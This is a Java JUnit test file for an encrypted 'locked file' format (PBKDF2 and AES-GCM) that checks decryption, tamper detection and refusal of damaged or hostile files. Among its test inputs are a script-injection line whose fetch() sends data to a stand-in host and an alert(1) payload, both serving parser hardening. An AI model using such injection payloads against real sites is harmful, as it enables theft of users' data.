package org.quietroom.core.keep;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Properties;
import javax.crypto.AEADBadTagException;
import javax.crypto.Cipher;
import javax.crypto.SecretKey;
import javax.crypto.SecretKeyFactory;
import javax.crypto.spec.GCMParameterSpec;
import javax.crypto.spec.PBEKeySpec;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.quietroom.core.EnglishCatalog;
import org.quietroom.core.Wording;
import org.quietroom.core.Words;
import org.quietroom.core.preset.Base64Url;

/**
 * The locked file's format, with the JVM's own PBKDF2 and AES-GCM standing in for Web Crypto (the same algorithms,
 * parameters and byte layout): what the page writes, {@link LockedFile#read} accepts and decrypts; a changed
 * ciphertext or a wrong passphrase fails AES-GCM's authentication; a truncated, padded or hostile file is refused
 * before any key is derived, with the message that says why.
 */
class LockedFileTest {
    private static final String PASSPHRASE = "acid zoom cable dwarf ebony";
    private static final String PLAN = "Your plan\nNow: a step with \u00e1\u00f1 and <b>markup-looking</b> text & more";
    private static final byte[] SALT = bytes(16, 1);
    private static final byte[] IV = bytes(12, 100);
    private static final Words WORDS = EnglishCatalog.messages()::get;
    private static SecretKey key;
    private static String file;

    private static byte[] bytes(int n, int from) {
        byte[] b = new byte[n];
        for (int i = 0; i < n; i++) {
            b[i] = (byte) (from + i * 7);
        }
        return b;
    }

    private static SecretKey derive(String passphrase, byte[] salt, int iterations) throws GeneralSecurityException {
        SecretKeyFactory f = SecretKeyFactory.getInstance("PBKDF2WithHmacSHA256");
        byte[] raw = f.generateSecret(new PBEKeySpec(passphrase.toCharArray(), salt, iterations, 256)).getEncoded();
        return new SecretKeySpec(raw, "AES");
    }

    private static byte[] gcm(int mode, SecretKey k, byte[] iv, String aad, byte[] data) throws GeneralSecurityException {
        Cipher c = Cipher.getInstance("AES/GCM/NoPadding");
        c.init(mode, k, new GCMParameterSpec(128, iv));
        c.updateAAD(aad.getBytes(StandardCharsets.UTF_8));
        return c.doFinal(data);
    }

    @BeforeAll
    static void make() throws GeneralSecurityException {
        key = derive(PASSPHRASE, SALT, LockedFile.ITERATIONS);
        byte[] ciphertext = gcm(Cipher.ENCRYPT_MODE, key, IV, LockedFile.MARKER, PLAN.getBytes(StandardCharsets.UTF_8));
        file = LockedFile.write(WORDS, SALT, IV, ciphertext);
    }

    private static String refusal(String text) {
        return assertThrows(LockedFile.Refused.class, () -> LockedFile.read(text), text.length() > 300
                ? text.substring(0, 300) : text).key();
    }

    @Test
    void whatIsWrittenIsReadBackAndDecryptsToThePlan() throws Exception {
        LockedFile.Locked locked = LockedFile.read(file);
        assertEquals(LockedFile.ITERATIONS, locked.iterations());
        assertArrayEquals(SALT, locked.salt());
        assertArrayEquals(IV, locked.iv());
        SecretKey again = derive(PASSPHRASE, locked.salt(), locked.iterations());
        byte[] clear = gcm(Cipher.DECRYPT_MODE, again, locked.iv(), LockedFile.MARKER, locked.ciphertext());
        assertEquals(PLAN, new String(clear, StandardCharsets.UTF_8));
        // Line ends changed to CR LF by an editor or a mail program: still the same file.
        assertArrayEquals(locked.ciphertext(), LockedFile.read(file.replace("\n", "\r\n")).ciphertext());
    }

    @Test
    void theFileIsDataOnlyWithNoPlanTextAndNoMarkup() {
        assertFalse(file.contains("Your plan") || file.contains("step") || file.contains("markup"), file);
        assertFalse(file.indexOf('<') >= 0 || file.indexOf('>') >= 0, file);
        assertTrue(file.startsWith(WORDS.get(LockedFile.ABOUT_KEY) + "\n" + WORDS.get(LockedFile.HOW_KEY) + "\n\n"
                + LockedFile.MARKER + "\niterations 600000\nsalt " + Base64Url.encode(SALT) + "\niv "
                + Base64Url.encode(IV) + "\ndata "), file);
        assertTrue(file.endsWith("\nend\n"));
        // Sentences with line breaks or angle brackets cannot break the format.
        String odd = LockedFile.write(k -> "a <script>\nb", SALT, IV, new byte[16]);
        assertFalse(odd.contains("<"));
        assertEquals(16, assertDoesRead(odd).ciphertext().length);
    }

    private static LockedFile.Locked assertDoesRead(String text) {
        try {
            return LockedFile.read(text);
        } catch (LockedFile.Refused e) {
            throw new AssertionError("refused with " + e.key() + ": " + text, e);
        }
    }

    @Test
    void aChangedCiphertextOrAnotherFormatsAdditionalDataFailsAuthentication() throws Exception {
        LockedFile.Locked locked = LockedFile.read(file);
        byte[] data = locked.ciphertext();
        for (int i = 0; i < data.length; i += 7) {
            byte[] changed = data.clone();
            changed[i] ^= 1;
            String tampered = file.replace("data " + Base64Url.encode(data), "data " + Base64Url.encode(changed));
            assertFalse(tampered.equals(file));
            byte[] read = LockedFile.read(tampered).ciphertext();
            assertThrows(AEADBadTagException.class, () -> gcm(Cipher.DECRYPT_MODE, key, locked.iv(),
                    LockedFile.MARKER, read), "byte " + i);
        }
        assertThrows(AEADBadTagException.class,
                () -> gcm(Cipher.DECRYPT_MODE, key, locked.iv(), "locked-notes 1", data));
        byte[] iv = locked.iv();
        iv[0] ^= 1;
        assertThrows(AEADBadTagException.class, () -> gcm(Cipher.DECRYPT_MODE, key, iv, LockedFile.MARKER, data));
    }

    @Test
    void aWrongPassphraseFailsAuthentication() throws Exception {
        LockedFile.Locked locked = LockedFile.read(file);
        SecretKey wrong = derive("acid zoom cable dwarf ebonY", locked.salt(), locked.iterations());
        assertThrows(AEADBadTagException.class,
                () -> gcm(Cipher.DECRYPT_MODE, wrong, locked.iv(), LockedFile.MARKER, locked.ciphertext()));
    }

    @Test
    void everyTruncationIsRefusedAsNotData() {
        // Only dropping the final line end leaves a whole file.
        for (int n = 0; n < file.length() - 1; n++) {
            assertEquals(LockedFile.NOT_DATA, refusal(file.substring(0, n)), "first " + n + " characters");
        }
        assertDoesRead(file.substring(0, file.length() - 1));
    }

    @Test
    void aHostileOrDamagedFileIsRefusedWithItsReason() {
        String data = file.substring(file.indexOf(LockedFile.MARKER));
        assertDoesRead(data);
        assertDoesRead("any words before\n\n" + data + "\n\n");
        // Markup anywhere, as if someone had made it a web page that runs a script.
        assertEquals(LockedFile.NOT_DATA, refusal("<script>fetch('https://x.example/?'+p)</script>\n" + data));
        assertEquals(LockedFile.NOT_DATA, refusal(data + "<script>alert(1)</script>\n"));
        assertEquals(LockedFile.NOT_DATA, refusal("<!DOCTYPE html><html><body><main data-format=\"1\" "
                + "data-salt=\"x\"></main></body></html>"));
        assertEquals(LockedFile.NOT_DATA, refusal(data + "more\n"));
        assertEquals(LockedFile.NOT_DATA, refusal(data.replace("\0", "") + "\u0000"));
        assertEquals(LockedFile.NOT_DATA, refusal(data.replace("locked-notes 2", "locked-notes 3")));
        assertEquals(LockedFile.NOT_DATA, refusal(data.replace("\niv ", "\nIV ")));
        assertEquals(LockedFile.NOT_DATA, refusal(swapLines(data, 2, 3)));
        assertEquals(LockedFile.NOT_DATA, refusal(""));
        assertEquals(LockedFile.NOT_DATA, refusal("just some text\n"));
        assertThrows(LockedFile.Refused.class, () -> LockedFile.read(null));
        // Iterations: too few (an attacker's weak file), too many (keeps the page busy), not a plain number.
        for (String count : List.of("1", "599999", "10000001", "999999999")) {
            assertEquals(LockedFile.SETTINGS, refusal(data.replace("iterations 600000", "iterations " + count)), count);
        }
        assertDoesRead(data.replace("iterations 600000", "iterations 10000000"));
        for (String count : List.of("0600000", "600000 ", "6e5", "-600000", "", "1000000000", "600\u0660000")) {
            assertEquals(LockedFile.NOT_DATA, refusal(data.replace("iterations 600000", "iterations " + count)), count);
        }
        // Values: wrong lengths, padding, another alphabet, space.
        String salt = Base64Url.encode(SALT);
        assertEquals(LockedFile.NOT_DATA, refusal(data.replace(salt, Base64Url.encode(bytes(15, 1)))));
        assertEquals(LockedFile.NOT_DATA, refusal(data.replace(salt, salt + "==")));
        assertEquals(LockedFile.NOT_DATA, refusal(data.replace(salt, salt.replace('-', '+').replace('_', '/')
                + "+")));
        assertEquals(LockedFile.NOT_DATA, refusal(data.replace("salt " + salt, "salt  " + salt)));
        assertEquals(LockedFile.NOT_DATA, refusal(data.replace(Base64Url.encode(IV), Base64Url.encode(bytes(16, 0)))));
        String cipher = data.substring(data.indexOf("data ") + 5, data.indexOf("\nend"));
        assertEquals(LockedFile.NOT_DATA, refusal(data.replace(cipher, Base64Url.encode(new byte[15]))));
        // Too long: refused before it is looked at.
        assertEquals(LockedFile.TOO_LONG, refusal("a".repeat(LockedFile.MAX_CHARS - data.length()) + "\n" + data));
        assertDoesRead("a".repeat(LockedFile.MAX_CHARS - data.length() - 1) + "\n" + data);
    }

    private static String swapLines(String text, int a, int b) {
        List<String> lines = new ArrayList<>(List.of(text.split("\n", -1)));
        String t = lines.get(a);
        lines.set(a, lines.get(b));
        lines.set(b, t);
        return String.join("\n", lines);
    }

    @Test
    void refusesParametersOfTheWrongSize() {
        assertThrows(IllegalArgumentException.class, () -> LockedFile.write(WORDS, bytes(8, 0), IV, new byte[16]));
        assertThrows(IllegalArgumentException.class, () -> LockedFile.write(WORDS, SALT, bytes(16, 0), new byte[16]));
        assertThrows(IllegalArgumentException.class, () -> LockedFile.write(WORDS, SALT, IV, bytes(15, 0)));
    }

    @Test
    void usesTheCurrentRecommendedParameters() {
        assertTrue(LockedFile.ITERATIONS >= 600_000, "OWASP 2023: PBKDF2-HMAC-SHA256, at least 600 000");
        assertTrue(LockedFile.MAX_ITERATIONS > LockedFile.ITERATIONS);
        assertEquals(16, LockedFile.SALT_BYTES);
        assertEquals(12, LockedFile.IV_BYTES);
        assertEquals(16, LockedFile.TAG_BYTES);
    }

    private static Map<String, String> catalog(String lang) throws IOException {
        Properties p = new Properties();
        try (Reader r = Files.newBufferedReader(Path.of("src/main/messages/" + lang + ".properties"),
                StandardCharsets.UTF_8)) {
            p.load(r);
        }
        Map<String, String> out = new java.util.TreeMap<>();
        for (String k : p.stringPropertyNames()) {
            out.put(k, p.getProperty(k));
        }
        return out;
    }

    @Test
    void everyWordOfTheFileAndOfKeepingItIsInTheCatalogAndKind() throws IOException {
        for (String lang : List.of("en", "es")) {
            Map<String, String> catalog = catalog(lang);
            for (String key : List.of(LockedFile.ABOUT_KEY, LockedFile.HOW_KEY, LockedFile.NAME_KEY,
                    LockedFile.NOT_DATA, LockedFile.TOO_LONG, LockedFile.SETTINGS)) {
                assertTrue(catalog.containsKey(key), lang + " " + key);
            }
            // What the file says stands in it unchanged: one line each, nothing that looks like markup.
            for (String key : List.of(LockedFile.ABOUT_KEY, LockedFile.HOW_KEY)) {
                String text = catalog.get(key);
                assertFalse(text.contains("<") || text.contains(">") || text.contains("\n"), lang + " " + key);
                assertTrue(LockedFile.write(catalog::get, SALT, IV, new byte[16]).contains(text + "\n"));
            }
            String name = catalog.get(LockedFile.NAME_KEY).toLowerCase(Locale.ROOT);
            assertFalse(name.contains("plan") || name.contains("safety") || name.contains("seguridad"),
                    "the downloaded file's name says nothing about what is in it: " + name);
            assertTrue(name.endsWith(".txt"), "a text file, which no browser runs: " + name);
        }
        Map<String, String> catalog = EnglishCatalog.messages();
        List<String> ours = new ArrayList<>();
        for (String key : catalog.keySet()) {
            // keep.text.labelled is a pattern ("{0}: {1}"), not a sentence.
            boolean pattern = key.equals(org.quietroom.core.plan.PlanText.LABELLED_KEY);
            if (!pattern && (key.startsWith("keep.") || key.startsWith("open.") || key.startsWith("ask."))) {
                ours.add(key);
            }
        }
        assertTrue(ours.size() > 40, "the keys of this feature: " + ours);
        for (String key : ours) {
            Wording.assertKind(key, catalog.get(key));
        }
    }
}
